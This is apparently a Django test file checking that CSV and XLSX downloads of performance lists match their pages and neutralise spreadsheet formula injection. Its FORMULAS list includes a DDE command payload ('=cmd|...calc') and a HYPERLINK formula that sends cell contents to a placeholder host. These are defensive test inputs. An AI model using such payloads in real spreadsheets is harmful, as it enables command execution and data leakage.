"""Downloads: every list as CSV and XLSX, with what its page shows and nothing a spreadsheet would run."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from performance import export, recompute, workflow
from performance.models import Measure, Pack, Person, Submission
from tests import scene, world
from tests.page import Page

pytestmark = [pytest.mark.django_db, pytest.mark.wide]

# Who downloads what: the page, its headings, and a filter that leaves some rows out.
LISTS = {
    "my-measures": (
        "olive",
        "/my-measures/",
        [
            "Measure",
            "Period",
            "Due",
            "Figure before",
            "Period before",
            "Status before",
            "Last commentary for publication",
            "Figure",
            "State",
        ],
        {"q": "direct"},
    ),
    "approval-queue": (
        "dora",
        "/approval/",
        [
            "Measure",
            "Period",
            "Revision",
            "Figure",
            "What the figure is",
            "Figure entered",
            "What the figure entered covers",
            "Numerator",
            "Denominator",
            "Since the last approved",
            "Would be rated",
            "Explanation",
            "Commentary for publication",
            "Internal commentary",
            "Checks confirmed",
            "Submitted by",
            "Submitted",
            "Sign-off awaited",
        ],
        {"by": "oscar"},
    ),
    f"{scene.DRAFT}-figures": (
        "petra",
        f"/measures/{scene.DRAFT}/",
        ["Period", "Figure", "Target", "Status", "Direction", "Revision", "From"],
        {"origin": "published"},
    ),
    "packs": (
        "petra",
        "/packs/",
        [
            *("Pack", "Committee", "Meeting", "Period", "Status"),
            *("Next step", "To be sent out", "Working days left", "Issued"),
        ],
        {"status": "issued"},
    ),
    "adults-and-communities-2020-11": (
        "petra",
        "/dashboard/",
        [
            "Layer",
            "Theme",
            "Outcome",
            "Code",
            "Tags",
            "Measure",
            "Aim",
            "Period",
            "Target",
            "Target companion",
            "Milestone",
            "Final target",
            "Figure",
            "Beside the figure",
            "Breakdown",
            "Unit",
            "Reason for no figure",
            "Status",
            "Reason for no status",
            "Explanation",
            "Status by the rule, where judged otherwise",
            "Judged until",
            "Chance",
            "Outlook",
            "To date",
            "Status to date",
            "Earlier figure",
            "Beside the earlier figure",
            "Earlier period",
            "Published position",
            "Year of the position",
            "Direction",
            "Why no direction",
            "Owner's post",
            "Calculation",
            "Footnote",
            "Context",
        ],
        {"status": "green"},
    ),
}


@pytest.fixture
def full():
    """Rows in every list."""
    world.submit_month()
    waiting = Submission.objects.awaiting_approval().exclude(measure__service__name__startswith="Libraries")
    for submission in waiting.exclude(measure__slug=scene.SUBMITTED):
        scene.approve(submission, world.person("mary"))
    recompute.recompute_due()
    scene.draft_pack()
    scene.issued_pack(meeting_on=date(2021, 2, 1))


def csv_rows(response):
    """Heading to cell, row by row, after the mark that tells Excel the encoding."""
    text = response.content.decode("utf-8")
    assert text[0] == "\ufeff"
    assert "\ufeff" not in text[1:]
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def xlsx_rows(response):
    headings, *rows = sheet(response).iter_rows(values_only=True)
    return [dict(zip(headings, row, strict=True)) for row in rows]


@pytest.fixture(params=["csv", "xlsx"])
def rows_of(request, client):
    """Downloads a list as one of the formats, and reads it back as a list of mappings."""

    def download(who, address, **query):
        client.force_login(world.person(who))
        response = client.get(address, {**query, "_export": request.param})
        assert response.status_code == 200
        return csv_rows(response) if request.param == "csv" else xlsx_rows(response)

    return download


CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


@pytest.mark.parametrize("kind", CONTENT_TYPES)
def test_a_download_is_a_file_with_a_name_and_headings(full, client, kind):
    for name, (who, page, headings, _) in LISTS.items():
        client.force_login(world.person(who))
        response = client.get(page, {"_export": kind})
        rows = csv_rows(response) if kind == "csv" else xlsx_rows(response)
        assert (response["Content-Type"], response["Content-Disposition"], list(rows[0])) == (
            CONTENT_TYPES[kind],
            f'attachment; filename="{name}.{kind}"',
            headings,
        )


# A page may have other tables besides the list that is downloaded.
OF_THE_LIST = {"Measure", "Revision", "Pack"}


def test_a_download_has_the_rows_of_its_page(full, client, rows_of):
    """All of them, as they are filtered."""
    for who, page, _, narrow in LISTS.values():
        client.force_login(world.person(who))
        counts = {}
        for which, query in (("all", {}), ("some", narrow)):
            shown = [row for row in Page(client.get(page, query)).rows if OF_THE_LIST & set(row)]
            counts[which] = len(rows_of(who, page, **query))
            assert counts[which] == len(shown), page
        assert counts["all"] > counts["some"] > 0, page


def test_a_download_is_sorted_as_its_page(full, rows_of):
    titles = [row["Measure"] for row in rows_of("dora", "/approval/", sort="measure")]
    back = [row["Measure"] for row in rows_of("dora", "/approval/", sort="-measure")]

    assert titles == back[::-1]
    assert titles != back


def test_a_download_has_every_page_of_a_long_list(full, rows_of, monkeypatch):
    monkeypatch.setattr("performance.views.lists.PER_PAGE", 3)

    assert len(rows_of("olive", "/my-measures/", page=2)) == 21


def test_an_empty_list_is_headings_alone(as_person):
    browser = as_person("mary")

    as_csv, as_xlsx = (browser.get("/approval/", {"_export": kind}) for kind in ("csv", "xlsx"))

    headings = LISTS["approval-queue"][2]
    assert as_csv.content.decode() == "\ufeff" + ",".join(headings) + "\r\n"
    assert [[cell.value for cell in row] for row in sheet(as_xlsx).iter_rows()] == [headings]


def test_what_a_download_says(full, rows_of):
    """Figures as numbers, text as it is, without the page's markup; dates in ISO."""
    due = {row["Measure"]: row for row in rows_of("olive", "/my-measures/")}
    packs = rows_of("petra", "/packs/")
    board = {row["Measure"]: row for row in rows_of("petra", "/dashboard/")}
    queue = rows_of("dora", "/approval/", q="carers")

    direct = due["ASCOF 1C pt 2a Adult aged 18+ receiving direct payments"]
    assert (direct["Period"], direct["Due"], direct["State"]) == ("November 2020", "2020-12-14", "Approved")
    before = [str(direct[heading]) for heading in ("Figure", "Figure before", "Period before")]
    assert before == ["45.6", "47.5", "2019/20"]
    assert [(row["Pack"], row["Meeting"], row["Status"]) for row in packs] == [
        ("Performance report November 2020", "2021-02-01", "Issued"),
        ("Performance report November 2020", "2021-01-18", "Draft"),
    ]
    admissions = next(
        row for title, row in board.items() if "aged 65+" in title and "admissions" in title.lower()
    )
    assert (str(admissions["Figure"]), admissions["Beside the figure"]) == (
        "462",
        "669 admissions, full-year forecast",
    )
    assert (str(admissions["Earlier figure"]), admissions["Unit"]) == (
        "616.3",
        "per 100,000 people aged 65+",
    )
    visits = board["Library visits (inc. website visits)"]
    assert (str(visits["Earlier figure"]), visits["Earlier period"]) == ("780000", "April to November 2019")
    assert [str(row["Figure"]) for row in queue] == ["98.7"]


def test_moments_are_in_the_councils_time_to_the_second(full, rows_of):
    """Half past nine in the morning of a July day is half past eight in Greenwich."""
    july = datetime(2020, 7, 8, 8, 30, 15, 123456, tzinfo=UTC)
    Submission.objects.filter(measure__slug=scene.SUBMITTED).update(submitted_at=july)
    Pack.objects.filter(status="issued").update(issued_at=july)

    submitted = [row["Submitted"] for row in rows_of("dora", "/approval/", q="carers")]
    issued = [row["Issued"] for row in rows_of("petra", "/packs/")]

    assert submitted == ["2020-07-08T09:30:15+01:00"]
    assert [text or "" for text in issued] == ["2020-07-08T09:30:15+01:00", ""]


def test_numbers_are_numbers(full, as_person):
    response = as_person("petra").get(f"/measures/{scene.DRAFT}/", {"_export": "xlsx"})

    assert [row["Revision"] for row in xlsx_rows(response)] == [1, 1]
    cells = [cell for row in sheet(response).iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells if isinstance(cell.value, int | float)} == {"n"}
    assert [row["Figure"] for row in xlsx_rows(response)] == [45.6, 47.5]


# --- Nothing that a spreadsheet would run ----------------------------------------------------------------

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@x",
    "\t=1+1",
    "\r=1+1",
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://example.org/?"&A1)',
]


def harmless(text):
    return f"'{text}"


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_looks_like_a_formula_is_kept_as_text(text):
    assert export.safe_cell(text) == harmless(text)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("", ""),
        (None, ""),
        ("1+1=2", "1+1=2"),
        ("−3.5", "−3.5"),
        ("'quoted'", "'quoted'"),
        (0, 0),
        (-5, -5),
        (Decimal("-1.50"), Decimal("-1.50")),
        (True, True),
        (date(2020, 12, 14), "2020-12-14"),
        ("two\nlines", "two\nlines"),
        ("pasted\x0bfrom\x00 a\x1f word\x08processor\x0c", "pastedfrom a wordprocessor"),
        ("\x0b=1+1", "'=1+1"),
    ],
)
def test_what_a_cell_holds(value, cell):
    assert export.safe_cell(value) == cell


def set_everywhere(text):
    """A text that somebody may write, wherever it reaches a download."""
    person = world.person("olive")
    Person.objects.filter(pk=person.pk).update(name=text)
    Measure.objects.filter(slug__in=[scene.DRAFT, scene.SUBMITTED]).update(title=text)
    content = {"absence": "suppressed", "absence_note": text, "commentary_public": text}
    draft = scene.enter(scene.SUBMITTED, None, by=person, **content)
    scene.submit(draft, by=person)
    figure = scene.submit(scene.enter(scene.DRAFT, None, by=person, **content), by=person)
    scene.approve(figure, world.person("mary"))
    returned = scene.submit(scene.enter(scene.RETURNED, "79.7", by=person), by=person)
    workflow.send_back(
        submission=returned, version=returned.version, reason=text or "x", by=world.person("mary")
    )
    recompute.recompute_due()
    pack = scene.draft_pack()
    Pack.objects.filter(pk=pack.pk).update(title=text, committee=text)
    return person


@pytest.mark.parametrize("text", FORMULAS)
def test_no_download_holds_a_formula(client, text):
    person = set_everywhere(text)
    people = {"olive": person} | {name: world.person(name) for name in ("dora", "petra")}

    for who, page, _, _ in LISTS.values():
        client.force_login(people[who])
        book = sheet(client.get(page, {"_export": "xlsx"}))
        text_cells = csv_rows(client.get(page, {"_export": "csv"}))
        assert {cell.data_type for row in book.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
        starts = {value[0] for row in text_cells for value in row.values() if value}
        assert starts.isdisjoint("=+-@\t\r"), page
        in_book = {str(cell.value)[0] for row in book.iter_rows() for cell in row if cell.value}
        assert in_book.isdisjoint("=+-@\t\r"), page
        if page == "/packs/":
            assert (text_cells[0]["Pack"], text_cells[0]["Committee"]) == (harmless(text),) * 2


def test_control_characters_do_not_break_a_spreadsheet(client):
    """A vertical tab, as word processors paste it, may not stand in an XLSX file at all."""
    person = set_everywhere("Broken\x0bline")

    for who, page, _, _ in LISTS.values():
        client.force_login(person if who == "olive" else world.person(who))
        assert client.get(page, {"_export": "xlsx"}).status_code == 200, page
